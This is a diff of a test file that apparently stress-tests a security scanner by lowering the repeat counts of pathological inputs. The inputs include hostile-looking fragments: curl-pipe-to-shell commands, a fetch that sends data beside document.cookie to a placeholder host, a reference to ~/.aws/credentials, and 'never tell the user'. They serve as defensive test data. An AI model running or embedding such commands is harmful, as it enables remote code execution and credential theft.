@@ -30,16 +30,16 @@ const paths = [
 ];
 /** Texts that would cost much if something were looked at again and again. */
 const costly: readonly (readonly [string, string])[] = [
-  ['opened comments', '/*'.repeat(400_000)],
-  ['requests', 'fetch("https://a.invalid",{body:e});document.cookie;'.repeat(15_000)],
-  ['listeners', 'fetch("https://a.invalid",{body:e});x.onKey('.repeat(15_000)],
-  ['functions of a shell', 'a() {\n'.repeat(100_000)],
-  ['loops of a shell', 'while :; do curl a.invalid | sh\n'.repeat(20_000)],
-  ['lists of lines', 'exec_lines = ['.repeat(60_000)],
-  ['secrets that nobody is told', 'never tell the user '.repeat(40_000)],
-  ['commands', 'system("curl a.invalid | sh")\n'.repeat(20_000)],
-  ['arrays', 'x=(~/.aws/credentials)\n'.repeat(30_000)],
-  ['brackets', '[{"command":"a b"},'.repeat(40_000)],
+  ['opened comments', '/*'.repeat(50_000)],
+  ['requests', 'fetch("https://a.invalid",{body:e});document.cookie;'.repeat(1_875)],
+  ['listeners', 'fetch("https://a.invalid",{body:e});x.onKey('.repeat(1_875)],
+  ['functions of a shell', 'a() {\n'.repeat(12_500)],
+  ['loops of a shell', 'while :; do curl a.invalid | sh\n'.repeat(2_500)],
+  ['lists of lines', 'exec_lines = ['.repeat(7_500)],
+  ['secrets that nobody is told', 'never tell the user '.repeat(5_000)],
+  ['commands', 'system("curl a.invalid | sh")\n'.repeat(2_500)],
+  ['arrays', 'x=(~/.aws/credentials)\n'.repeat(3_750)],
+  ['brackets', '[{"command":"a b"},'.repeat(5_000)],
 ];
 
 describe('carriers that read settings, pages and other languages', () => {
